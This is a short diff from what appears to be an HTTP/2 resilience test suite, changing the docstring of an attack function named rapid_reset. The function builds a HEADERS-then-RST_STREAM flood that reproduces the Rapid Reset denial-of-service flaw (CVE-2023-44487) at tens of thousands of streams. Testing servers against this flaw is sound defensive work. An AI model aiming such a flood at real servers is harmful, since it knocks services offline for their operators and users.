@@ -46,7 +46,7 @@ def _read_what_came(connection):
 
 @attack()
 def rapid_reset(world):
-    """CVE-2023-44487."""
+    """CVE-2023-44487: what it costs meanwhile is bounded by a proxy alone."""
     said = flood(world, lambda i: frame(wire.HEADERS, wire.END_HEADERS, 2 * i + 1, PUT_HEADERS) +
                  frame(wire.RST, 0, 2 * i + 1, struct.pack(">I", 8)),
                  world.scale(20_000, 200_000))
